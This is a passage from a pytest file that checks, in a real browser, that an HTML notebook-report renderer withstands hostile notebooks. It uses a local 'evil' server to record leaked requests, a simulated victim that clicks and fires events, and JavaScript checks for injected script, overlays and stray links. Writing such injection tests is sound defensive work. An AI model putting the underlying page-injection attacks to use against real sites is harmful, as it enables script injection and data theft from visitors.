    assert page.find(id="made")
    assert whole or "last_of_all" in page.get_text()


@pytest.mark.parametrize("text", [HTML["an end of the summary"], HTML["end tags"], PLAIN["end of a comment"]])
def test_the_index_takes_no_more_of_a_page_than_its_summary(text: str, site: Any, samples: ModuleType) -> None:
    site.add("compare", notebook=everywhere(samples, text)[1])
    index = site.write()
    assert len(index.select("body > main > section.conclusion > article.summary")) == 1
    assert len(index.select("script:not([type])")) == len(index.select("main")) == len(index.select("h1")) == 1
    assert index.select("img[src], iframe, form, [onerror], [onclick]") == []


def test_a_picture_needs_no_metadata(samples: ModuleType) -> None:
    odd = a_code_cell(outputs=[a_picture("image/png", PIXEL, None)])
    page = samples.soup(samples.render_task(samples.record(), {"cells": [odd]}))
    assert page.select_one("figure.plate img")


def test_a_colour_cut_short_costs_the_colours_alone(samples: ModuleType) -> None:
    failed = samples.failed_record()
    failed = failed.model_copy(
        update={"failure": failed.failure.model_copy(update={"traceback": "\x1b[31m<a>\x1b[38mb"})}
    )
    page = samples.soup(samples.render_task(failed, samples.broken()))
    assert page.select_one("#failure .traceback").get_text() == "<a>b"


def test_a_title_of_many_signs_takes_no_time(samples: ModuleType) -> None:
    odd = {"cell_type": "markdown", "source": "# a" + "#" * 100_000 + "b"}
    page = samples.soup(samples.render_task(samples.record(), {"cells": [odd]}))
    assert page.h1.get_text().endswith("b")


class Server(ThreadingHTTPServer):
    """Somebody else's server: it notes who connects to it and what is asked."""

    daemon_threads = True

    def __init__(self) -> None:
        self.connections = 0
        self.asked: list[str] = []
        super().__init__(("127.0.0.1", 0), _Handler)

    @property
    def address(self) -> str:
        return f"http://127.0.0.1:{self.server_port}"

    def verify_request(self, *_: Any) -> bool:
        self.connections += 1
        return True

    def handle_error(self, *_: Any) -> None:
        """A browser that hangs up is no error."""


class _Handler(BaseHTTPRequestHandler):
    server: Server

    def do_GET(self) -> None:
        self.server.asked.append(self.path)
        self.send_error(404)

    do_POST = do_HEAD = do_OPTIONS = do_GET

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture(scope="module")
def evil() -> Iterator[Server]:
    with Server() as server:
        thread = threading.Thread(target=server.serve_forever, args=(0.05,))
        thread.start()
        yield server
        server.shutdown()
        thread.join()


class Victim:
    """Somebody who opens pages and does in them all that can be done, in one browser window for all."""

    def __init__(self, context: BrowserContext, evil: Server) -> None:
        self.context, self.evil = context, evil
        self.found: dict[str, str] = {}
        self.file = Path()
        self.page: Page | None = None

    def visit(self, file: Path, html: str) -> dict[str, str]:
        """Open a page, point at it, click, walk through it, and return what harm that did, by kind."""
        from playwright.sync_api import Error

        file.write_text(html, encoding="utf-8")
        self.file, self.found = file, {}
        asked, connections = len(self.evil.asked), self.evil.connections
        page = self.page = self.page or self._window()
        try:
            page.goto(file.as_uri(), timeout=10_000)
            page.wait_for_timeout(30)
            if self.evil.connections > connections or len(self.evil.asked) > asked:
                self.found["loaded"] = f"{self.evil.connections - connections} connections"
            self._look(page)
            if not self.found.keys() & {"ran", "loaded", "covered"}:
                self._act(page)
                page.wait_for_timeout(60)
                self._look(page)
        except Error as error:
            self.found.setdefault("left", str(error))
        for path in self.evil.asked[asked:]:
            self.found.setdefault("submitted" if path.startswith("/form") else "loaded", path)
        found = dict(self.found)
        if found:
            self._leave(page)
        return found

    def _leave(self, page: Page) -> None:
        """Get rid of a page that did harm. Nothing is closed: Chromium may hang in it while a page is being left."""
        from playwright.sync_api import Error

        try:
            page.goto("about:blank", timeout=3000)
        except Error:
            self.page = None

    def _look(self, page: Page) -> None:
        for kind, what in page.evaluate(_LOOK):
            self.found.setdefault(kind, what)

    def _act(self, page: Page) -> None:
        page.evaluate(_ACT)
        for place in range(page.evaluate(_MARK)):
            if point := page.evaluate(_POINT, place):
                page.mouse.click(*point)
        page.evaluate("document.querySelector('#notebook').scrollIntoView()")
        for _ in range(5):
            page.keyboard.press("Tab")

    def _window(self) -> Page:
        page = self.context.new_page()
        page.on("dialog", self._note_dialog)
        page.on("popup", self._note_popup)
        page.on("framenavigated", self._note_navigation)
        return page

    def _note_dialog(self, dialog: Any) -> None:
        self.found.setdefault("ran", f"dialog {dialog.message}")
        dialog.dismiss()

    def _note_popup(self, popup: Any) -> None:
        self.found.setdefault("opened", popup.url)

    def _note_navigation(self, frame: Any) -> None:
        above = frame.parent_frame  # what frames of frames do, the server of somebody else would tell
        shut_in = above and (above.parent_frame or frame.url == "about:srcdoc")
        if not shut_in and not _is_at(frame.url, self.file):
            self.found.setdefault("left", frame.url)


@pytest.fixture(scope="module")
def victim(browser: Browser, evil: Server) -> Iterator[Victim]:
    """One window for all pages. Links that may be followed lead nowhere: that a click leaves the page is no harm."""
    context = browser.new_context(viewport={"width": 1300, "height": 700})
    context.add_init_script(_STAY)
    yield Victim(context, evil)
    context.close()


def _is_at(url: str, file: Path) -> bool:
    return url.partition("#")[0].partition("?")[0] == file.as_uri()


def page_of(samples: ModuleType, make: Maker, evil: Server) -> str:
    record, notebook = make(samples)
    aimed = json.loads(json.dumps(notebook).replace("EVIL", evil.address))
    return samples.render_task(record, NotebookNode(aimed))


class TestInABrowser:
    pytestmark = pytest.mark.browser

    @pytest.mark.parametrize("name", named())
    def test_a_hostile_notebook_does_no_harm(
        self, name: str, victim: Victim, samples: ModuleType, tmp_path: Path
    ) -> None:
        html = page_of(samples, notebooks()[name], victim.evil)
        assert victim.visit(tmp_path / "page.html", html) == {}

    @pytest.mark.slow
    def test_the_same_without_our_walls_does_harm_of_every_kind(self, victim: Victim, tmp_path: Path) -> None:
        harms: Counter[str] = Counter()
        harmless = []
        for place, (name, text) in enumerate(HTML.items()):
            html = BARE.format(text.replace("EVIL", victim.evil.address))
            found = victim.visit(tmp_path / f"{place}.html", html)
            harms.update(found.keys())
            harmless += [] if found else [name]
        assert set(harms) == HARMS
        assert min(harms.values()) >= 2, harms
        assert harms["ran"] >= 40, harms
        assert len(harmless) < len(HTML) / 10, harmless


# A page like ours without a policy, in which a payload stands as it is.
BARE = """<!doctype html><html lang="en"><meta charset="utf-8"><title>page</title><body class="task"><main id="main">
<header><h1>A page</h1><dl class="facts"><dt>State</dt><dd>succeeded</dd></dl></header>
<section id="notebook" class="bare"><h2>Notebook</h2>
{}
</section><section id="made"><h2>What made this</h2><p>The end.</p></section></main></body></html>"""


_STAY = """
addEventListener("click", (event) => {
  const link = event.composedPath().find((e) => e.localName === "a" || e.localName === "area");
  const href = link && (link.href.baseVal ?? link.href);
  if (href && /^(https?|mailto|file):/.test(href) && !link.getAttribute("href").startsWith("#")) event.preventDefault();
}, true);
"""

# What the page must still be, whatever stands in it.
_LOOK = """() => {
  const harm = [];
  const say = (kind, what) => harm.push([kind, String(what).slice(0, 300)]);
  if (window.pwned !== undefined) say("ran", "window.pwned");
  if (/^(pwned|1)$/.test(document.title)) say("ran", "title " + document.title);

  const main = document.querySelector("body > main");
  const parts = ["failure", "summary", "metrics", "notebook", "made"];
  if (document.getElementById("main") !== main) say("shadowed", "main");
  for (const id of parts) {
    const element = document.getElementById(id);
    if (element && !(element.parentElement === main && element.localName === "section")) say("shadowed", id);
  }
  const ids = [...document.querySelectorAll("[id]")].map((e) => e.id);
  const twice = ids.filter((id, i) => ids.indexOf(id) < i);
  if (twice.length) say("shadowed", "twice: " + twice);
  for (const link of document.querySelectorAll("nav.contents a, #failure > p a"))
    if (!document.getElementById(decodeURIComponent(link.hash.slice(1)))) say("shadowed", "no " + link.hash);
  const blamed = document.querySelector("#failure > p > a");
  if (blamed && !document.getElementById(blamed.hash.slice(1)).matches(".failed")) say("shadowed", "the failed cell");
  if (document.body.className !== "task" || document.documentElement.lang !== "en") say("shadowed", "body");
  if (document.baseURI.split("#")[0] !== location.href.split("#")[0]) say("shadowed", "base");
  if (typeof document.getElementById !== "function" || document.forms.length) say("shadowed", "document");

  const ours = (e) => e.matches("body > a.skip, body > nav.contents, #notebook > .cell, .html.scroll thead th, .html.scroll thead td");
  const frame = (e) => e.matches(".live > .still > iframe[sandbox=allow-scripts]");
  for (const element of document.body.querySelectorAll("*")) {
    if (["SCRIPT", "STYLE"].includes(element.tagName)) continue;
    const style = getComputedStyle(element);
    if (style.position !== "static" && !ours(element)) say("covered", `${element.localName} is ${style.position}`);
    if (style.transform !== "none" || style.opacity !== "1" || parseFloat(style.zIndex) > 2)
      say("covered", `${element.localName} is moved`);
    for (const name of ["href", "xlink:href", "action", "formaction", "ping", "target", "download", "srcdoc"]) {
      const value = element.getAttribute(name);
      if (value === null || (name === "href" && value.startsWith("#")) || (name === "srcdoc" && frame(element))) continue;
      const good = name === "href" && element.localName === "a" &&
        (/^(https?|mailto):/.test(element.href) || /^file:\\/\\/\\/[^/]/.test(element.href));
      if (!good) say("linked", `${element.localName} ${name}=${value}`);
    }
  }

  const seen = (element, what) => {
    if (!element || !element.checkVisibility({opacityProperty: true, visibilityProperty: true}))
      return say("covered", what + " is hidden");
    element.scrollIntoView({block: "center", behavior: "instant"});
    const boxes = element.getClientRects();
    const box = boxes[Math.floor(boxes.length / 2)];
    if (!box || !box.width || !box.height) return say("covered", what + " has no size");
    const [x, y] = [box.left + box.width / 2, box.top + box.height / 2];
    const hit = document.elementFromPoint(x, y);
    if (!hit || !element.contains(hit)) say("covered", `${what} at ${x}, ${y} by ${hit && hit.outerHTML}`);
  };
  const titles = document.querySelectorAll("h1");
  if (titles.length !== 1) say("shadowed", titles.length + " h1");
  seen(document.querySelector("main > header > h1"), "h1");
  seen(document.querySelector("main > header > .facts"), "facts");
  for (const id of parts) if (document.getElementById(id)) seen(document.querySelector(`main > #${id} h2`), id);
  seen(document.querySelector("main > #made"), "made");
  seen(document.querySelector("main > #made > :last-child"), "the end of made");
  const nav = document.querySelector("nav.contents");
  if (nav) for (const link of nav.querySelectorAll("a")) seen(link, "contents: " + link.hash.slice(0, 40));
  const made = nav?.querySelector("a[href='#made']");
  for (const cell of nav ? document.querySelectorAll(".cell") : []) {
    cell.scrollIntoView({block: "start", behavior: "instant"});
    const box = made.getBoundingClientRect();
    for (const x of [box.left + 1, box.right - 1]) {
      const hit = document.elementFromPoint(x, box.top + box.height / 2);
      if (box.top > 0 && box.bottom < innerHeight && !made.contains(hit)) say("covered", "contents by " + cell.id);
    }
  }
  return harm;
}"""

# What a real pointer is led to: what notebooks brought, innermost elements first.
_MARK = """() => {
  const all = [...document.querySelectorAll("#notebook :is(.html, .prose, .output) *, #notebook.bare *")];
  const inner = all.filter((e) => !e.firstElementChild || e.matches("a, summary, button"));
  window.marked = [...inner.filter((e) => e.matches("a, summary, button, img")), ...inner].slice(0, 7);
  return window.marked.length;
}"""
_POINT = """(place) => {
  const element = window.marked[place];
  element.scrollIntoView({block: "center", behavior: "instant"});
  const box = element.getBoundingClientRect();
  const [x, y] = [box.left + Math.min(box.width, 60) / 2, box.top + Math.min(box.height, 20) / 2];
  return x > 0 && y > 0 && x < innerWidth && y < innerHeight ? [x, y] : null;
}"""

# Every event that a hand can cause, on every element; all folds are opened.
_ACT = """() => {
  const theirs = () => document.querySelectorAll("#notebook *, #summary *, .question *, #failure *, #made *");
  for (const element of theirs()) {
    const events = {
      PointerEvent: ["pointerover", "pointerenter", "pointermove", "pointerdown", "pointerup", "pointerleave"],
      MouseEvent: ["mouseover", "mouseenter", "mousemove", "mousedown", "mouseup", "dblclick", "contextmenu"],
      KeyboardEvent: ["keydown", "keyup"], WheelEvent: ["wheel"], DragEvent: ["dragstart", "drop"],
      ClipboardEvent: ["copy", "paste"], FocusEvent: ["focusin"],
    };
    for (const [kind, names] of Object.entries(events))
      for (const name of names) element.dispatchEvent(new window[kind](name, {bubbles: true, cancelable: true}));
    element.focus?.({preventScroll: true});
    element.dispatchEvent(new MouseEvent("click", {bubbles: true, cancelable: true, composed: true}));
  }
  for (const fold of document.querySelectorAll("details")) fold.open = true;
}"""
